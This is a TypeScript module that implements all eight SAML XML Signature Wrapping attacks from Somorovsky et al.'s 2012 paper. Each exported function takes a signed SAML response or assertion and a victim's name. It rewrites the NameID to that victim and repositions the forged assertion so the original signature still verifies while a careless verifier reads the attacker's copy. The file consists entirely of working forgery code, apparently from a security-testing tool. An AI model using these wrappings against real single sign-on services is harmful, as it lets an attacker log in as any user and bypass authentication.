/**
 * Signature wrapping: a signed answer in which somebody else is put where a careless reader looks, while the signature still fits what it was made for. The eight ways of
 * Somorovsky et al., “On Breaking SAML: Be Whoever You Want to Be” (2012). 1 and 2 need a signed response, the others a signed assertion.
 */
export const wrappings: Readonly<Record<string, (xml: string, victim: string) => string>> = {
  'XSW 1': (xml, victim) => {
    const { signature, bare, evil } = ofResponse(xml, victim);
    return evil.replace(
      marker,
      signature.replace(/<\/(ds:)?Signature>$/, (end) => `${bare}${end}`),
    );
  },
  'XSW 2': (xml, victim) => {
    const { signature, bare, evil } = ofResponse(xml, victim);
    return evil.replace(marker, `${bare}${signature}`);
  },
  'XSW 3': (xml, victim) => {
    const { assertion, evil } = ofAssertion(xml, victim);
    return xml.replace(assertion, `${evil}${assertion}`);
  },
  'XSW 4': (xml, victim) => {
    const { assertion, evil } = ofAssertion(xml, victim);
    return xml.replace(assertion, evil.replace(/<\/saml:Assertion>$/, `${assertion}</saml:Assertion>`));
  },
  'XSW 5': (xml, victim) => {
    const { assertion, signature, bare, evil } = ofAssertion(xml, victim);
    return xml.replace(assertion, `${afterIssuer(evil, signature)}${bare}`);
  },
  'XSW 6': (xml, victim) => {
    const { assertion, signature, bare, evil } = ofAssertion(xml, victim);
    return xml.replace(assertion, afterIssuer(evil, within(signature, bare)));
  },
  'XSW 7': (xml, victim) => {
    const { assertion, evil } = ofAssertion(xml, victim);
    return xml.replace(assertion, `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`);
  },
  'XSW 8': (xml, victim) => {
    const { assertion, signature, bare, evil } = ofAssertion(xml, victim);
    return xml.replace(assertion, afterIssuer(evil, within(signature, `<Object>${bare}</Object>`)));
  },
};

const marker = '<wrapped/>';
const signatureIn = /<((?:ds:)?Signature)[\s>][\s\S]*?<\/\1>/;
const afterIssuer = (xml: string, more: string): string =>
  xml.replace('</saml:Issuer>', `</saml:Issuer>${more}`);
const within = (signature: string, more: string): string =>
  signature.replace(/<\/(ds:)?Signature>$/, (end) => `${more}${end}`);
const named = (xml: string, victim: string): string =>
  xml.replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${victim}`).replaceAll(/ID="_/g, 'ID="_evil');

function ofAssertion(xml: string, victim: string) {
  const assertion = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? '';
  const signature = signatureIn.exec(assertion)?.[0] ?? '';
  if (signature === '') throw new Error('The assertion has no signature to wrap.');
  const bare = assertion.replace(signature, '');
  return { assertion, signature, bare, evil: named(bare, victim) };
}

/** The response is signed, its assertion may be, too. */
function ofResponse(xml: string, victim: string) {
  const outside = xml.replace(/<saml:Assertion[\s\S]*<\/saml:Assertion>/, '');
  const signature = signatureIn.exec(outside)?.[0] ?? '';
  if (signature === '') throw new Error('The response has no signature to wrap.');
  const bare = xml.replace(signature, '');
  const unsigned = named(bare.replace(signatureIn, ''), victim);
  return { signature, bare, evil: unsigned.replace('<samlp:Status>', `${marker}<samlp:Status>`) };
}
